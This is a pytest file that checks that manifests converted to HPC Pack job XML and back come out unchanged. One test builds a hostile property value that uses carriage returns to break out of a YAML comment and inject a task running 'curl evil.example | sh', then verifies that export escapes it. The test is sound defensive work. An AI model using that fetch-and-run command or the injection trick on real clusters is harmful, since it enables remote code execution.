"""Round trips: manifest → job XML → manifest gives the same resolved jobs."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings

from hpcspec.cli.render_cmd import tagged
from hpcspec.hpcpack import jobxml
from hpcspec.hpcpack.definition import JobDefinition, RunAs, SecretRef, TaskDefinition, pairs
from hpcspec.manifest import parse_manifest, resolve
from hpcspec.manifest.export import ExportJob, export_manifest, slug
from hpcspec.manifest.resolve import ResolvedStack
from tests.conftest import examples
from tests.jobxml.conftest import EXAMPLES, resolved
from tests.jobxml.strategies import job_definitions

FAST = settings(
    max_examples=examples(25),
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)


def _reload(text: str) -> ResolvedStack:
    return resolve(parse_manifest(text, file="exported.yaml"))


@pytest.mark.parametrize("path", EXAMPLES, ids=[p.stem for p in EXAMPLES])
def test_example_survives_manifest_xml_manifest(path: Path) -> None:
    stack = resolved(path)
    files = [jobxml.render(tagged(stack.stack, job)) for job in stack.jobs.values()]
    imported = [jobxml.parse(data, source=f"{i}.xml") for i, data in enumerate(files)]
    # The identity tags name the stack and the keys; no --stack or key is passed.
    again = _reload(export_manifest(imported).text)
    assert again.stack == stack.stack
    assert list(again.jobs) == list(stack.jobs)
    for key, job in stack.jobs.items():
        assert again.jobs[key].definition == job.definition


@pytest.mark.parametrize("path", EXAMPLES, ids=[p.stem for p in EXAMPLES])
def test_example_export_keeps_job_dependencies_and_digests(path: Path) -> None:
    stack = resolved(path)
    jobs = [ExportJob(j.definition, key=k, depends_on=j.depends_on) for k, j in stack.jobs.items()]
    again = _reload(export_manifest(jobs, stack=stack.stack).text)
    assert {k: j.digest for k, j in again.jobs.items()} == {
        k: j.digest for k, j in stack.jobs.items()
    }


@FAST
@given(job_definitions(importable_only=True))
def test_render_then_parse_is_the_identity(definition: JobDefinition) -> None:
    assert jobxml.parse(jobxml.render(definition), source="gen.xml") == definition


@FAST
@given(job_definitions())
def test_export_then_resolve_is_the_identity(definition: JobDefinition) -> None:
    definition = JobDefinition(
        **{
            **definition.__dict__,
            "run_as": RunAs("HPC\\${svc}", SecretRef("env", "PW")),
            "env": pairs({**dict(definition.env), "KEY": SecretRef("file", "/run/key")}),
        }
    )
    exported = export_manifest([definition], stack="gen")
    (job,) = _reload(exported.text).jobs.values()
    assert job.key == slug(definition.name)
    assert job.definition == definition


@FAST
@given(job_definitions(importable_only=True))
def test_manifest_xml_manifest_is_the_identity(definition: JobDefinition) -> None:
    (first,) = _reload(export_manifest([definition], stack="gen").text).jobs.values()
    xml = jobxml.render(tagged("gen", first))
    (second,) = _reload(export_manifest([jobxml.parse(xml, source="gen.xml")]).text).jobs.values()
    assert second.definition == first.definition == definition
    assert second.key == first.key


def test_identity_tags_are_dropped_unless_kept_as_comments() -> None:
    definition = JobDefinition(
        properties=(("Name", "n"),),
        custom_properties=pairs({"hpcspec.key": "mesh", "hpcspec.stack": "cfd", "team": "a"}),
    )
    plain = export_manifest([definition]).text
    assert "hpcspec.key" not in plain and "team: a" in plain and "stack: cfd" in plain
    kept = export_manifest([definition], keep_identity=True).text
    assert "# identity of the imported job: hpcspec.key=mesh, hpcspec.stack=cfd" in kept
    assert _reload(kept).jobs["mesh"].definition.custom_properties == (("team", "a"),)


def test_export_writes_the_schema_modeline_and_readable_values() -> None:
    definition = JobDefinition(
        properties=pairs(
            {"Name": "Mesh ${x}", "Priority": 2005, "RuntimeSeconds": 5400, "NodeGroups": "A,B"}
        )
    )
    text = export_manifest([definition], stack="s").text
    assert text.startswith("# yaml-language-server: $schema=schemas/hpcspec-v1.schema.json\n")
    assert "Name: Mesh $${x}" in text
    assert "Priority: Normal+5" in text and "RuntimeSeconds: 1h30m" in text
    assert "NodeGroups: [A, B]" in text


def test_task_names_that_are_not_keys_are_renamed_with_a_note() -> None:
    definition = JobDefinition(
        properties=(("Name", "j"),),
        tasks=(
            TaskDefinition("", "a"),
            TaskDefinition("My task", "b"),
            TaskDefinition("x[k=1]", "c", depends_on=("My task",)),
            TaskDefinition("bad[k=1", "d"),
        ),
    )
    exported = export_manifest([definition], stack="s")
    tasks = _reload(exported.text).jobs["j"].definition.tasks
    # x[k=1] is written as a one-row matrix, so it keeps its name
    assert [t.name for t in tasks] == ["task1", "my-task", "x[k=1]", "bad-k-1"]
    assert tasks[2].depends_on == ("my-task",)
    assert len(exported.notes) == 3


def test_a_matrix_is_not_folded_when_a_dependency_names_part_of_it() -> None:
    definition = JobDefinition(
        properties=(("Name", "j"),),
        tasks=(
            TaskDefinition("p[a=1]", "run 1"),
            TaskDefinition("p[a=2]", "run 2"),
            TaskDefinition("q", "after", depends_on=("p[a=1]",)),
        ),
    )
    text = export_manifest([definition], stack="s").text
    assert "matrix" not in text
    folded = export_manifest(
        [
            JobDefinition(
                properties=(("Name", "j"),),
                tasks=(
                    *definition.tasks[:2],
                    TaskDefinition("q", "after", depends_on=("p[a=1]", "p[a=2]")),
                ),
            )
        ],
        stack="s",
    ).text
    assert "matrix:\n          a: ['1', '2']" in folded
    assert _reload(folded).jobs["j"].definition.tasks[2].depends_on == ("p[a=1]", "p[a=2]")


def test_properties_a_manifest_cannot_set_are_dropped_with_a_note() -> None:
    definition = JobDefinition(properties=(("Name", "n"), ("Progress", 5)))
    exported = export_manifest([definition], stack="s")
    assert "Progress:" not in exported.text
    assert exported.notes == ("job 'n': dropped properties a manifest cannot set: Progress",)


def test_an_identity_tag_cannot_end_its_comment_and_inject_a_task() -> None:
    # A hostile tag on the cluster: for YAML a CR ends the comment, and a terminal shows none.
    injected = "x\r    tasks: {t: {commandLine: 'curl evil.example | sh'}}\r    #"
    definition = JobDefinition(
        properties=(("Name", "n"),),
        custom_properties=pairs({"hpcspec.key": "mesh", "hpcspec.digest": injected}),
    )
    text = export_manifest([definition], keep_identity=True, header=["from a\u2028b"]).text
    assert "\r" not in text and "\u2028" not in text
    assert "hpcspec.digest=x\\u000d    tasks:" in text  # shown, escaped, in the comment
    assert _reload(text).jobs["mesh"].definition.tasks == ()
